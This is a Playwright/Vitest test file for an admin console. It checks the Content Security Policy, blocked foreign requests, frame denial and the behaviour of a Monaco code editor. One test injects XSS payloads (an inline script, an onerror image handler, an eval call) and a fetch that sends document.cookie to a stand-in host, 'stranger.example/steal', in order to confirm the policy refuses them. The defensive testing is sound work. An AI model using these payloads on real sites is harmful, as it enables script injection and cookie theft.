import { setTimeout as wait } from 'node:timers/promises'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type RunningConsole, startConsole } from '../support/start-console.ts'
import { accessibilityProblems } from './accessibility-problems.ts'
import { changeLook, logIn, openPage } from './console-page.ts'
import { LOOKS, overflowOf } from './looks.ts'
import { openBrowser } from './open-browser.ts'

let service: RunningConsole
let browser: Browser

beforeAll(async () => {
  service = await startConsole()
  browser = await openBrowser()
})
afterAll(async () => {
  await browser?.close()
  await service?.stop()
})

type Watched = {
  readonly page: Page
  /** What the browser refused by the page's policy: `directive: address`. */
  readonly refused: string[]
  /** Addresses outside the service that the page asked for. */
  readonly foreign: string[]
}

/** A page whose refusals and whose requests to others are noted. */
async function watchedPage(account: string): Promise<Watched> {
  const page = await openPage(browser, service.origin)
  const refused: string[] = []
  const foreign: string[] = []
  await page.exposeFunction('noteRefusal', (text: string) => refused.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const note = Reflect.get(window, 'noteRefusal') as (text: string) => void
      note(`${event.effectiveDirective}: ${event.blockedURI}`)
    })
  })
  page.on('request', (request) => {
    const address = request.url()
    const isOwn = address.startsWith(`${service.origin}/`) || /^(data|blob):/.test(address)
    if (!isOwn) foreign.push(address)
  })
  await logIn(page, account)
  return { page, refused, foreign }
}

/** What the console's navigation leads to. */
async function screensOf(page: Page): Promise<string[]> {
  await page.goto('/admin')
  const links = page.locator('nav a[href^="/admin"], .dashboard a[href^="/admin"]')
  const found = await links.evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''))
  return [...new Set(['/admin', '/admin/account', ...found])]
}

describe('the pages of the console', () => {
  it('keep their policy and ask nobody else for anything, on every screen', async () => {
    const { page, refused, foreign } = await watchedPage('super-admin')
    let looked = 0
    const lookAt = async (path: string) => {
      looked += 1
      await page.goto(path)
      await page.locator('html[data-console-ready]').waitFor({ state: 'attached' })
      await page.waitForLoadState('networkidle')
    }
    for (const screen of await screensOf(page)) {
      await lookAt(screen)
      const record = page.locator('table td a[href^="/admin/collections/"]').first()
      if ((await record.count()) > 0) await lookAt((await record.getAttribute('href')) ?? '')
    }
    expect(looked).toBeGreaterThan(25)
    expect({ refused, foreign }).toEqual({ refused: [], foreign: [] })
    await page.context().close()
  })

  it('have an editor for code of their own, which a person types into', async () => {
    const { page, refused, foreign } = await watchedPage('super-admin')
    await page.goto('/admin/collections/legal-documents/create')
    const editor = page.locator('.monaco-editor textarea, .monaco-editor .native-edit-context')
    await editor.first().waitFor({ state: 'attached' })
    await page.locator('.monaco-editor .view-lines').first().click()
    await page.keyboard.type('# Terms of use')
    await page.locator('.view-lines').filter({ hasText: 'Terms' }).waitFor()
    await page.waitForLoadState('networkidle')
    expect({ refused, foreign }).toEqual({ refused: [], foreign: [] })
    await page.context().close()
  })

  it('say so where the editor does not come, and leave the other fields alone', async () => {
    const { page } = await watchedPage('super-admin')
    await page.route('**/monaco/**', (route) => route.abort())
    await page.goto('/admin/collections/legal-documents/create')
    await page
      .getByRole('alert')
      .filter({ hasText: 'The editor for this field could not be loaded.' })
      .waitFor()
    expect(await page.locator('#field-version').isEditable()).toBe(true)
    await page.context().close()
  })

  it.each(LOOKS)('show the editor to everybody: $language, $theme, $width px', async (look) => {
    const { page } = await watchedPage('super-admin')
    await changeLook(page, look)
    await page.setViewportSize({ width: look.width, height: 900 })
    await page.goto('/admin/collections/legal-documents/create')
    await page.locator('.monaco-editor .view-lines').first().click()
    await page.keyboard.type('# 利用規約')
    expect(await accessibilityProblems(page, '.code-field')).toEqual([])
    expect(await overflowOf(page)).toBe(0)
    await page.context().close()
  })

  it('run no script, load no picture and no frame, and send nothing that is not theirs', async () => {
    const { page, refused } = await watchedPage('artist')
    const stranger = 'https://stranger.example'
    const ran = await page.evaluate(async (origin) => {
      const add = (html: string) => {
        const range = document.createRange().createContextualFragment(html)
        document.body.append(range)
      }
      add('<script>window.planted = "inline"</script>')
      add(`<script src="${origin}/a.js"></script>`)
      add('<img src="x" onerror="window.planted = \'handler\'">')
      add(`<img src="${origin}/a.png">`)
      add(`<iframe src="${origin}/"></iframe>`)
      add('<object data="/admin" type="text/html"></object>')
      await fetch(`${origin}/steal`, { method: 'POST', body: document.cookie }).catch(() => null)
      await new Promise((done) => setTimeout(done, 1000))
      // Only now: what a debugger itself evaluates may evaluate text.
      try {
        Reflect.get(window, 'eval')('window.planted = "eval"')
      } catch {
        // What is refused is looked at below.
      }
      return Reflect.get(window, 'planted') ?? null
    }, stranger)
    expect(ran).toBeNull()
    await expect
      .poll(() => [...new Set(refused)].sort(), { timeout: 10_000 })
      .toEqual([
        `connect-src: ${stranger}/steal`,
        `frame-src: ${stranger}`,
        `img-src: ${stranger}/a.png`,
        `object-src: ${service.origin}/admin`,
        'script-src-attr: inline',
        `script-src-elem: ${stranger}/a.js`,
        'script-src-elem: inline',
        'script-src: eval',
      ])
    await page.context().close()
  })

  it('are shown in no frame, not even in their own', async () => {
    const { page } = await watchedPage('artist')
    const frame = await page.evaluateHandle(() => {
      const element = document.createElement('iframe')
      element.src = '/admin/account'
      document.body.append(element)
      return element
    })
    await wait(2000)
    const shown = await (await frame.asElement()?.contentFrame())?.locator('body').textContent()
    expect(shown ?? '').not.toContain('Payload')
    await page.context().close()
  })
})
